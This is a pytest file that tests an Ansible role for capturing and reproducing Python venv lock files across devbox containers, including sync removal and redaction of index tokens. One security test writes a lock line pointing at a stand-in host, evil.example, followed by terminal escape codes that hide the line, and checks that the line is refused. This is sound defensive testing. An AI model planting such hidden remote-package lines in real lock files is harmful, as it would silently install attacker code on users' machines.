"""The same environment on another machine, from the first one's lock.

Two fresh local machines: the first gets a few packages from the playbook and one installed by
hand in a terminal; its lock comes back to the controller; the second is provisioned from that
lock and ends up with the same `pip freeze`. With python_env_sync an extra package on the second
is removed and reported. The lock itself is read from the venv's metadata: taking it needs no
network.
"""
import contextlib
import json
import os
import re
import subprocess
import sys

import pytest

from docker_machines import LocalMachine, ROOT, TEST_IMAGE, docker, fresh, recap_changed, tagged

HOME = "/home/pythonuser"
VENV = f"{HOME}/project-venv"
PACKAGES = ["six==1.16.0", "python-dateutil==2.9.0.post0"]
BY_HAND = "tabulate==0.9.0"
EXTRA = "colorama==0.4.6"


def one_line(output: str) -> str:
    """The output with Ansible's line wrapping undone."""
    return " ".join(output.split())


def freeze(machine) -> str:
    result = machine.exec(f"{VENV}/bin/pip freeze --all --disable-pip-version-check", user="pythonuser")
    assert result.returncode == 0, result.stderr
    return result.stdout


def machine_lock(machine) -> str:
    return machine.exec(f"cat {HOME}/project/requirements.lock").stdout


# Each container is the inventory's host of its own name (DEVBOX_NAME), with a lock folder of its own on the
# controller: the copy of each is <its name>.requirements.lock there.
FIRST, SECOND = tagged("devbox-lock-a"), tagged("devbox-lock-b")


@pytest.fixture(scope="module")
def locks(tmp_path_factory):
    return {name: tmp_path_factory.mktemp(name) for name in (FIRST, SECOND)}


@pytest.fixture(scope="module")
def machines(locks):
    with contextlib.ExitStack() as stack:
        yield [stack.enter_context(fresh(LocalMachine(name=name, volume=f"{name}-home", image=TEST_IMAGE)))
               for name in (FIRST, SECOND)]


def run(machine, locks, variables, *extra):
    variables = dict({"python_env_packages": PACKAGES, "python_env_lock_copy_dir": str(locks[machine.name])},
                     **variables)
    result = machine.provision("-e", json.dumps(variables), *extra, capture=True)
    return result.returncode, result.stdout + result.stderr


def test_the_first_machines_lock_holds_its_packages_and_the_hand_installed_one(machines, locks):
    first, _ = machines
    rc, output = run(first, locks, {})
    assert rc == 0, output[-3000:]
    assert first.exec(f"{VENV}/bin/pip install -q --disable-pip-version-check {BY_HAND}",
                      user="pythonuser").returncode == 0
    rc, output = run(first, locks, {})
    assert rc == 0, output[-3000:]
    lock = machine_lock(first)
    assert "# python: 3." in lock
    assert "six==1.16.0\n" in lock and "python-dateutil==2.9.0.post0\n" in lock
    marked = [line for line in lock.splitlines() if line.endswith("# by hand")]
    assert marked == [f"{BY_HAND}  # by hand"], "only the hand-installed one: JupyterLab's dependencies are not"
    assert re.search(r"^ipykernel==\S+$", lock, re.M), "what the playbook installs for the kernel is locked too"
    assert not re.search(r"^jupyterlab==", lock, re.M), "JupyterLab has a venv of its own: not the user's lock"
    pins = [line for line in lock.splitlines() if line and not line.startswith("#")]
    assert len(pins) == len(freeze(first).splitlines()), "every distribution is pinned"
    assert (locks[FIRST] / f"{FIRST}.requirements.lock").read_text() == lock, "the controller's copy is the same"


def test_the_user_cannot_make_a_hand_install_look_requested(machines, locks):
    """Issue 24, finding 3: the list of requested packages was the user's file in the venv."""
    first, _ = machines
    assert first.exec(f"echo '{{\"tabulate\": []}}' > {VENV}/devbox-requested.json", user="pythonuser").returncode == 0
    rc, output = run(first, locks, {})
    assert rc == 0, output[-3000:]
    assert f"{BY_HAND}  # by hand" in machine_lock(first), "the user's list made the hand install look requested"
    record = f"{HOME}/.devbox/requested-packages.json"
    assert first.exec(f"stat -c '%U %a' {record}").stdout.split() == ["root", "644"]
    assert {"six", "python-dateutil"} <= set(json.loads(first.exec(f"cat {record}").stdout))
    assert first.exec(f"test -e {VENV}/devbox-requested.json").returncode != 0, "the venv's old list is gone"


def module_alone(machine, arguments: dict) -> dict:
    """One module on the machine (an ad-hoc run, no playbook); its result."""
    command = [os.path.join(os.path.dirname(sys.executable), "ansible"), "all",
               "-i", os.path.join(ROOT, "inventory", "local.yml"), "-e", f"ansible_host={machine.name}",
               "-m", arguments.pop("module"), "-a", json.dumps(arguments), "-o"]
    env = dict(os.environ, ANSIBLE_CONFIG=os.path.join(ROOT, "ansible.cfg"))
    result = subprocess.run(command, cwd=ROOT, env=env, text=True, capture_output=True)
    assert result.returncode == 0, result.stdout + result.stderr
    return json.loads(result.stdout.split("=>", 1)[1])


def test_taking_the_lock_needs_no_network_and_installs_nothing(machines):
    first, _ = machines
    before, lock = freeze(first), machine_lock(first)
    first.exec(f"rm {HOME}/project/requirements.lock")
    docker("network", "disconnect", "bridge", first.name, quiet=True)
    try:
        assert first.exec("getent hosts pypi.org").returncode != 0, "the machine still reaches the network"
        result = module_alone(first, {"module": "devbox_venv", "user": "pythonuser", "path": VENV,
                                      "project_dir": f"{HOME}/project", "configure": False})
    finally:
        docker("network", "connect", "bridge", first.name, quiet=True)
    assert result["lock"] == lock and machine_lock(first) == lock
    assert result["installed"] == [] and result["removed"] == [] and result["upgraded"] == []
    assert freeze(first) == before


def test_the_second_machine_gets_the_same_set_from_the_lock(machines, locks):
    first, second = machines
    lock_file = os.path.relpath(locks[FIRST] / f"{FIRST}.requirements.lock", ROOT)  # relative to where ansible-playbook runs
    rc, output = run(second, locks, {"python_env_lock_file": lock_file})
    assert rc == 0, output[-3000:]
    assert freeze(second) == freeze(first)
    assert machine_lock(second) == machine_lock(first), "the hand-installed line stays marked as such"
    assert (locks[SECOND] / f"{SECOND}.requirements.lock").read_text() == machine_lock(first)
    rc, output = run(second, locks, {"python_env_lock_file": lock_file})
    assert rc == 0 and recap_changed(output) == 0, output[-3000:]


def test_sync_removes_what_the_lock_does_not_list_and_says_so(machines, locks):
    first, second = machines
    lock_file = str(locks[FIRST] / f"{FIRST}.requirements.lock")
    assert second.exec(f"{VENV}/bin/pip install -q --disable-pip-version-check {EXTRA}",
                       user="pythonuser").returncode == 0
    rc, output = run(second, locks, {"python_env_lock_file": lock_file})
    assert rc == 0, output[-3000:]
    assert EXTRA in freeze(second), "without python_env_sync nothing is uninstalled"
    assert f"{EXTRA}  # by hand" in machine_lock(second)

    (locks[SECOND] / f"{SECOND}.requirements.lock").unlink()
    rc, output = run(second, locks, {"python_env_lock_file": lock_file, "python_env_sync": True}, "--check")
    assert rc == 0, output[-3000:]
    assert not (locks[SECOND] / f"{SECOND}.requirements.lock").exists(), "a dry run writes nothing on the controller either"
    assert f"python_env_sync would remove what {lock_file} does not list: {EXTRA}" in one_line(output)
    assert EXTRA in freeze(second), "a dry run removes nothing"

    rc, output = run(second, locks, {"python_env_lock_file": lock_file, "python_env_sync": True})
    assert rc == 0, output[-3000:]
    assert f"python_env_sync removed what {lock_file} does not list: {EXTRA}" in one_line(output)
    assert freeze(second) == freeze(first)
    assert (locks[SECOND] / f"{SECOND}.requirements.lock").read_text() == machine_lock(first)
    rc, output = run(second, locks, {"python_env_lock_file": lock_file, "python_env_sync": True})
    assert rc == 0 and recap_changed(output) == 0, output[-3000:]


def test_a_lock_from_another_python_fails_before_the_venv_changes(machines, locks):
    _, second = machines
    other = locks[SECOND] / "other-python.lock"
    lock = (locks[FIRST] / f"{FIRST}.requirements.lock").read_text()
    other.write_text(re.sub(r"(?m)^# python: .*$", "# python: 3.6.15", lock).replace("six==1.16.0", "six==1.15.0"))
    before = freeze(second)
    rc, output = run(second, locks, {"python_env_lock_file": str(other)})
    assert rc != 0
    assert f"{other} was made on Python 3.6" in one_line(output)
    assert "take a new lock on a Python 3." in one_line(output)
    assert freeze(second) == before


def test_a_hidden_lock_line_is_refused_before_anything_changes(machines, locks):
    """Issue 24, finding 3: a line that erases itself on a terminal (\\x1b[2K) in a shared lock."""
    _, second = machines
    hidden = locks[SECOND] / "hidden.lock"
    hidden.write_text((locks[FIRST] / f"{FIRST}.requirements.lock").read_text()
                      + "evil @ https://evil.example/evil-1.0.tar.gz#\x1b[2K\x1b[1A\n")
    before = freeze(second)
    rc, output = run(second, locks, {"python_env_lock_file": str(hidden)})
    assert rc != 0
    assert "holds a control character" in one_line(output) and "x1b[2K" in output
    assert "\x1b[2K" not in output
    assert freeze(second) == before


def test_a_token_only_index_url_installs_and_is_never_shown(machines, locks):
    """Issue 24, finding 4: the Gemfury / Azure forms against the real package index."""
    _, second = machines
    variables = {"python_env_index_url": "https://sometoken:@pypi.org/simple",
                 "python_env_extra_index_urls": ["https://othertoken@pypi.org/simple"],
                 "python_env_packages": PACKAGES + [EXTRA]}
    rc, output = run(second, locks, variables, "--check", "--diff")
    assert rc == 0, output[-3000:]
    assert "+index-url = https://********:@pypi.org/simple" in output
    rc, output = run(second, locks, variables, "--diff")
    assert rc == 0, output[-3000:]
    assert EXTRA in freeze(second)
    lock = machine_lock(second)
    assert "# index: https://********:@pypi.org/simple\n" in lock
    assert "# extra index: https://********@pypi.org/simple\n" in lock
    for text in (output, lock, (locks[SECOND] / f"{SECOND}.requirements.lock").read_text()):
        assert "sometoken" not in text and "othertoken" not in text
